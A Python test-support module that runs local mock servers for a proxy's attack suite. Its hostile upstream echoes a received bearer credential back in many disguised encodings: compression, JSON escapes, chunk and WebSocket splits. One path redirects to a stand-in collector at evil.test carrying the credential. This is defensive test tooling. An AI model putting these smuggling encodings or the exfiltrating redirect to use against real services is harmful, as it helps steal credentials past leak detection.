"""Servers for the attack suite: a hostile TLS upstream and a plain-HTTP one.

The hostile upstream takes the credential it receives in ``Authorization`` (after "Bearer ",
when present) and sends it back in every form a careless or hostile service might use:
encoded, compressed, split across chunks, in odd places of the response. It records what it
received, like tests.support.upstream.

Paths (VALUE is the received credential):
  /reason             401 whose reason phrase carries VALUE
  /header-name        a response header *named* X-VALUE
  /b64, /b64url       VALUE base64-encoded (standard, URL-safe alphabet)
  /basic-b64          base64("user:" + VALUE), as an echoed Basic credential
  /pct                VALUE percent-encoded, every reserved byte
  /json-slash         VALUE in JSON with "/" escaped as "\\/" (Go, PHP style)
  /json-html          VALUE in JSON with <, >, & escaped as \\u003c... (Go's default)
  /nested-json        VALUE JSON-encoded twice (a JSON document quoted inside a JSON string)
  /drip               VALUE, one byte per chunk (chunked transfer encoding)
  /sse                a text/event-stream carrying VALUE split across three chunks
  /br, /deflate, /zstd  VALUE in a body compressed with that encoding
  /gzip-split-ce      gzip body, with two Content-Encoding headers: "identity" and "gzip"
  /snappy             Content-Encoding: snappy (the proxy can't decode it), VALUE inside
  /corrupt-gzip       Content-Encoding: gzip; a gzip header, then garbage holding VALUE
  /not-gzip           Content-Encoding: gzip, but the body is plain text holding VALUE
  /redirect-echo      302 to https://evil.test:PORT/collect?t=VALUE
  Escaped reflections (VALUE as a JSON parser or URL decoder reads it back; ``?src=query``
  takes VALUE from the ``key`` query parameter instead of ``Authorization``):
  /json-u-all         {"token": VALUE} with every character \\uXXXX-escaped (a surrogate pair
                      outside the BMP), hex case alternating
  /json-u-partial     every other character \\u-escaped, "/" as "\\/", <, >, & as Go writes them
  /json-u-chunked     /json-u-all in 3-byte chunks: chunk boundaries inside the escapes
  /json-u-sse         a text/event-stream whose JSON holds VALUE \\u-escaped, split in escapes
  /json-u-gzip        /json-u-all gzip-compressed, in 7-byte chunks of the compressed body
  /json-in-json-u     a JSON document holding VALUE \\u-escaped, quoted in a JSON string
  /pct-mixed          VALUE percent-encoded every other byte, hex case alternating
  /url-in-json        {"next": URL} whose query holds VALUE percent-encoded, "%" as \\u0025
  /b64-mime           base64(45 * "x" + "user:" + VALUE) wrapped at 76 columns with CRLF (MIME),
                      a line break inside VALUE
  /b64-in-json        base64(VALUE) in JSON with "/" as "\\/" and "+" as "\\u002B"
  /ws                 a WebSocket: records the client's first message, then sends VALUE in one
                      text frame and again split across two fragments, then closes
  /held-echo?hold=ID&a=A&b=B[&echo=1][&split=N][&type=T]
                      a chunked body A + (VALUE if echo=1) + B, sent in two chunks cut at byte N
                      (default: after A); between them the upstream waits until the test
                      releases hold ID (``Server.hold``): an ordering event, not a clock
  /ok, anything else  200 "ok"
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import socket
import ssl
import threading
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, quote, urlsplit

import brotli
import trustme
from backports import zstd

from tests.support.upstream import Hold, Received


@dataclass
class Server:
    names: tuple[str, ...]
    port: int = 0
    received: list[Received] = field(default_factory=list)
    ws_received: list[bytes] = field(default_factory=list)
    holds: dict[str, Hold] = field(default_factory=dict)
    server: ThreadingHTTPServer | None = None

    def hold(self) -> Hold:
        """A new hold, for ``/held-echo?hold=ID``."""
        h = Hold()
        self.holds[h.id] = h
        return h

    def hosts_that_got(self, needle: str) -> set[str]:
        """Host header names of recorded requests whose bytes contain ``needle``."""
        return {
            (r.header("Host") or "").rsplit(":", 1)[0].lower()
            for r in self.received
            if needle.encode() in r.raw()
        }

    def close(self) -> None:
        if self.server is not None:
            self.server.shutdown()
            self.server.server_close()


def credential(rec: Received) -> str:
    auth = rec.header("Authorization") or ""
    return auth.split(" ", 1)[1] if auth.lower().startswith("bearer ") else auth


def _chunked(parts: list[bytes]) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in parts if p) + b"0\r\n\r\n"


def _handler(srv: Server, hostile: bool) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: Any) -> None:
            pass

        def _record(self) -> Received:
            if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
                body = b""
                while True:
                    size = int(self.rfile.readline().split(b";")[0], 16)
                    if size == 0:
                        self.rfile.readline()
                        break
                    body += self.rfile.read(size)
                    self.rfile.readline()
            else:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
            rec = Received(self.command, self.path, list(self.headers.items()), body)
            srv.received.append(rec)
            return rec

        def _send(
            self,
            status: int,
            body: bytes,
            headers: list[tuple[str, str]] | None = None,
            reason: str | None = None,
        ) -> None:
            self.send_response(status, reason)
            for k, v in headers or []:
                self.send_header(k, v)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def _stream(
            self, parts: list[bytes], headers: list[tuple[str, str]], pause: float = 0.002
        ) -> None:
            self.send_response(200)
            for k, v in headers:
                self.send_header(k, v)
            self.send_header("Transfer-Encoding", "chunked")
            self.send_header("Connection", "close")
            self.end_headers()
            for part in parts:
                self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
                self.wfile.flush()
                if pause:
                    time.sleep(pause)
            self.wfile.write(b"0\r\n\r\n")
            self.wfile.flush()
            self.close_connection = True

        def _dispatch(self) -> None:
            rec = self._record()
            if not hostile:
                self._send(200, b"plain ok\n", [("Content-Type", "text/plain")])
                return
            url = urlsplit(self.path)
            q = {k: v[0] for k, v in parse_qs(url.query).items()}
            value = q.get("key", "") if q.get("src") == "query" else credential(rec)
            raw = value.encode()
            echo = json.dumps({"token": value}).encode()
            text = [("Content-Type", "text/plain")]
            jsn = [("Content-Type", "application/json")]
            path = url.path
            if path == "/reason":
                self._send(401, b"denied\n", text, reason=f"Bad token {value}")
            elif path == "/header-name":
                self._send(200, b"ok\n", [(f"X-{value}", "1"), *text])
            elif path == "/b64":
                self._send(200, base64.b64encode(raw), text)
            elif path == "/b64url":
                self._send(200, base64.urlsafe_b64encode(raw), text)
            elif path == "/basic-b64":
                self._send(200, base64.b64encode(b"user:" + raw), text)
            elif path == "/pct":
                self._send(200, quote(value, safe="").encode(), text)
            elif path == "/json-slash":
                self._send(200, echo.replace(b"/", b"\\/"), jsn)
            elif path == "/json-html":
                body = json.dumps({"token": value}).replace("<", "\\u003c")
                body = body.replace(">", "\\u003e").replace("&", "\\u0026")
                self._send(200, body.encode(), jsn)
            elif path == "/nested-json":
                self._send(200, json.dumps({"doc": echo.decode()}).encode(), jsn)
            elif path == "/drip":
                self._stream([bytes([b]) for b in b"token=" + raw + b"\n"], text)
            elif path == "/sse":
                event = b'data: {"echo": "' + raw + b'"}\n\n'
                third = max(1, len(event) // 3)
                self._stream(
                    [event[:third], event[third : 2 * third], event[2 * third :]],
                    [("Content-Type", "text/event-stream")],
                )
            elif path == "/br":
                self._send(200, brotli.compress(echo), [*jsn, ("Content-Encoding", "br")])
            elif path == "/deflate":
                self._send(200, zlib.compress(echo), [*jsn, ("Content-Encoding", "deflate")])
            elif path == "/zstd":
                self._send(
                    200,
                    zstd.compress(echo),
                    [*jsn, ("Content-Encoding", "zstd")],
                )
            elif path == "/gzip-split-ce":
                self._send(
                    200,
                    gzip.compress(echo),
                    [*jsn, ("Content-Encoding", "identity"), ("Content-Encoding", "gzip")],
                )
            elif path == "/snappy":
                self._send(
                    200, b"\xff\x06\x00\x00sNaPpY" + echo, [*jsn, ("Content-Encoding", "snappy")]
                )
            elif path == "/corrupt-gzip":
                body = gzip.compress(b"")[:10] + b"\xff\xfe" + echo
                self._send(200, body, [*jsn, ("Content-Encoding", "gzip")])
            elif path == "/not-gzip":
                self._send(200, echo, [*jsn, ("Content-Encoding", "gzip")])
            elif path.startswith(("/json-u", "/json-in-json-u", "/pct-mixed", "/url-in-json")):
                self._escaped(path, value)
            elif path.startswith("/b64-"):
                self._base64(path, raw)
            elif path == "/ws":
                self._websocket(raw)
            elif path == "/held-echo":
                self._held_echo(q, raw)
            elif path == "/redirect-echo":
                to = f"https://evil.test:{q.get('port', srv.port)}/collect?t={value}"
                self._send(302, b"", [("Location", to)])
            else:
                self._send(200, b"ok\n", text)

        def _held_echo(self, q: dict[str, str], raw: bytes) -> None:
            first = q.get("a", "").encode()
            body = first + (raw if q.get("echo") == "1" else b"") + q.get("b", "").encode()
            cut = int(q.get("split", len(first)))
            self.send_response(200)
            self.send_header("Content-Type", q.get("type", "text/plain"))
            self.send_header("Transfer-Encoding", "chunked")
            self.send_header("Connection", "close")
            self.end_headers()
            self.close_connection = True
            try:
                self.wfile.write(_chunked([body[:cut]])[:-5])  # not yet the last chunk
                self.wfile.flush()
                if srv.holds[q["hold"]].wait_released():
                    self.wfile.write(_chunked([body[cut:]]))
                    self.wfile.flush()
            except OSError:
                pass  # the proxy cut the connection: what the test looks at

        def _escaped(self, path: str, value: str) -> None:
            jsn = [("Content-Type", "application/json")]
            whole = b'{"token": "' + u_escaped(value) + b'"}'
            if path == "/json-u-all":
                self._send(200, whole, jsn)
            elif path == "/json-u-partial":
                self._send(200, b'{"token": "' + u_escaped(value, every=2) + b'"}', jsn)
            elif path == "/json-u-chunked":
                self._stream([whole[i : i + 3] for i in range(0, len(whole), 3)], jsn, 0)
            elif path == "/json-u-sse":
                event = b'data: {"echo": "' + u_escaped(value) + b'"}\n\n'
                parts = [event[i : i + 5] for i in range(0, len(event), 5)]
                self._stream(parts, [("Content-Type", "text/event-stream")], 0)
            elif path == "/json-u-gzip":
                body = gzip.compress(whole)
                parts = [body[i : i + 7] for i in range(0, len(body), 7)]
                self._stream(parts, [*jsn, ("Content-Encoding", "gzip")], 0)
            elif path == "/json-in-json-u":
                self._send(200, json.dumps({"doc": whole.decode()}).encode(), jsn)
            elif path == "/pct-mixed":
                self._send(200, b"t=" + pct_mixed(value.encode()), [("Content-Type", "text/plain")])
            elif path == "/url-in-json":
                url = b"https:\\/\\/x.test\\/cb?t=" + pct_mixed(value.encode(), every=1)
                body = b'{"next": "' + url.replace(b"%", b"\\u0025") + b'"}'
                self._send(200, body, jsn)
            else:
                self._send(404, b"no such reflection\n", [("Content-Type", "text/plain")])

        def _base64(self, path: str, raw: bytes) -> None:
            if path == "/b64-mime":
                # 50 bytes before VALUE: the line break at column 76 falls inside it
                body = base64.encodebytes(b"x" * 45 + b"user:" + raw).replace(b"\n", b"\r\n")
                self._send(200, body, [("Content-Type", "text/plain")])
            elif path == "/b64-in-json":
                blob = base64.b64encode(b"\xfb\xff" + raw)  # starts "+/": both always there
                blob = blob.replace(b"/", b"\\/").replace(b"+", b"\\u002B")
                jsn = [("Content-Type", "application/json")]
                self._send(200, b'{"blob": "' + blob + b'"}', jsn)
            else:
                self._send(404, b"no such reflection\n", [("Content-Type", "text/plain")])

        def _websocket(self, raw: bytes) -> None:
            key = self.headers.get("Sec-WebSocket-Key", "")
            accept = base64.b64encode(
                hashlib.sha1(  # noqa: S324 - the RFC 6455 handshake
                    (key + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
                ).digest()
            ).decode()
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            self.send_header("Sec-WebSocket-Accept", accept)
            self.end_headers()
            self.wfile.flush()
            self.connection.settimeout(3)
            try:
                srv.ws_received.append(read_frame(self.rfile)[1])
            except (OSError, ValueError):
                srv.ws_received.append(b"")
            msg = b"token=" + raw
            half = len(msg) // 2
            self.wfile.write(
                frame(0x1, msg)
                + frame(0x1, msg[:half], fin=False)
                + frame(0x0, msg[half:])
                + frame(0x8, b"\x03\xe8")
            )
            self.wfile.flush()
            self.close_connection = True

        do_GET = do_POST = do_PUT = do_DELETE = do_PATCH = _dispatch

    return Handler


def u_escaped(value: str, every: int = 1) -> bytes:
    """``value`` as JSON string contents with every ``every``-th character ``\\uXXXX``-escaped
    (UTF-16 code units: a surrogate pair outside the BMP), hex case alternating; the others
    escaped as a careless encoder might: "/" as "\\/", <, >, & as Go does, or left alone."""
    out = []
    for i, ch in enumerate(value):
        if i % every == 0:
            units = ch.encode("utf-16-be")
            for k in range(0, len(units), 2):
                hexed = units[k : k + 2].hex()
                out.append("\\u" + (hexed.upper() if (i + k) % 2 else hexed))
        elif ch in "<>&":
            out.append(f"\\u{ord(ch):04x}")
        elif ch == "/":
            out.append("\\/")
        else:
            out.append(json.dumps(ch, ensure_ascii=False)[1:-1])
    return "".join(out).encode()


def pct_mixed(raw: bytes, every: int = 2) -> bytes:
    """``raw`` with every ``every``-th byte percent-encoded (hex case alternating) and every
    byte that a URL can't carry as is encoded too."""
    safe = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-._~"
    out = b""
    for i, byte in enumerate(raw):
        if i % every == 0 or byte not in safe:
            hexed = b"%02x" % byte
            out += b"%" + (hexed.upper() if i % 4 < 2 else hexed)
        else:
            out += bytes((byte,))
    return out


def frame(opcode: int, payload: bytes, *, fin: bool = True, mask: bytes | None = None) -> bytes:
    """One WebSocket frame (RFC 6455); clients pass a 4-byte ``mask``."""
    head = bytes([(0x80 if fin else 0) | opcode])
    bit = 0x80 if mask else 0
    n = len(payload)
    if n < 126:
        head += bytes([bit | n])
    elif n < 65536:
        head += bytes([bit | 126]) + n.to_bytes(2, "big")
    else:
        head += bytes([bit | 127]) + n.to_bytes(8, "big")
    if mask:
        payload = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
        head += mask
    return head + payload


def read_frame(f: Any) -> tuple[int, bytes, bool]:
    """(opcode, payload, fin) of the next frame from the file-like ``f``."""
    b0, b1 = f.read(2)
    n = b1 & 0x7F
    if n == 126:
        n = int.from_bytes(f.read(2), "big")
    elif n == 127:
        n = int.from_bytes(f.read(8), "big")
    mask = f.read(4) if b1 & 0x80 else b""
    payload = f.read(n)
    if mask:
        payload = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return b0 & 0x0F, payload, bool(b0 & 0x80)


def _serve(
    srv: Server,
    handler: type[BaseHTTPRequestHandler],
    wrap: Callable[[socket.socket], socket.socket] | None,
) -> Server:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    if wrap is not None:
        server.socket = wrap(server.socket)
    srv.server = server
    srv.port = server.server_address[1]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return srv


def start_hostile(ca: trustme.CA, names: tuple[str, ...]) -> Server:
    """A TLS upstream with a certificate from ``ca`` for ``names`` (and 127.0.0.1)."""
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(*names, "127.0.0.1").configure_cert(ctx)
    srv = Server(names)
    return _serve(srv, _handler(srv, True), lambda s: ctx.wrap_socket(s, server_side=True))


def start_plain(names: tuple[str, ...]) -> Server:
    """A plain-HTTP server that records what it gets and answers "plain ok"."""
    srv = Server(names)
    return _serve(srv, _handler(srv, False), None)


def chunked(parts: list[bytes]) -> bytes:
    return _chunked(parts)
